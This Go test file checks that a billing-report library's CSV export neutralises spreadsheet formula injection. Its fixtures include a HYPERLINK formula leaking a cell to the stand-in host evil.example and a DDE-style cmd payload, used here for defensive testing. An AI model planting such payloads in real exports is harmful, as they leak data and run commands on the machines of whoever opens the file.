package report_test

import (
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/exopartner/exopartner/wrapper"
	"github.com/exopartner/exopartner/wrapper/report"
)

// TestWriteCSVNeutralisesFormulas: text the API sent that a spreadsheet
// would run (a client-id =HYPERLINK(…), a billing name @SUM(…), a product
// =1+1, a unit starting with TAB) reaches the CSV with a leading ', while
// the numeric columns, a negative quantity included, are left as they are.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	srv, c := start(t)
	ctx := context.Background()
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"x")`
	org := srv.Seed(wrapper.Organization{Status: wrapper.StatusActive, ClientID: hyperlink,
		BillingAddress: wrapper.BillingAddress{Name: "@SUM(1+1)*cmd|' /C calc'!A0", StreetName: "Main", City: "+41 Geneva", PostalCode: "1217", Country: "CH"}})
	if err := c.ApplyMetering(ctx, org.ID, []wrapper.UsageRecord{{Product: "=1+1", Variable: "-2+3", Quantity: -42.5}, {Product: unitProduct, Variable: "\tv", Quantity: 1}}); err != nil {
		t.Fatal(err)
	}
	r, err := report.Build(ctx, c, wrapper.PeriodOf(now), report.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := report.WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(recs[0], report.Columns()) || len(recs) != 3 {
		t.Fatalf("CSV:\n%s", b.String())
	}
	col := func(rec []string, name string) string { return rec[slices.Index(report.Columns(), name)] }
	for _, rec := range recs[1:] {
		if got := col(rec, "client-id"); got != "'"+hyperlink {
			t.Errorf("client-id %q", got)
		}
		if got := col(rec, "name"); got != "'@SUM(1+1)*cmd|' /C calc'!A0" {
			t.Errorf("name %q", got)
		}
		for i, c := range rec {
			numeric := slices.Contains([]string{"quantity", "total-excl-vat", "total-incl-vat"}, report.Columns()[i])
			if !numeric && c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("text cell %s %q would run as a formula", report.Columns()[i], c)
			}
		}
	}
	first := recs[1]
	if col(first, "product") != "'=1+1" || col(first, "variable") != "'-2+3" || col(first, "quantity") != "-42.5" ||
		col(first, "total-excl-vat") == "" || col(first, "total-excl-vat")[0] != '-' {
		t.Errorf("first row %q: want the product and variable neutralised, the negative numbers as they are", first)
	}
	if v := col(recs[2], "variable"); v != "'\tv" {
		t.Errorf("variable %q, want '\\tv", v)
	}

	// The cells as the library gives them are the API's text, unchanged.
	cells := r.Rows[0].Cells()
	if cells[1].Text != hyperlink || cells[1].Number || !cells[12].Number || cells[12].Text != "-42.5" {
		t.Errorf("cells %+v", cells)
	}
}
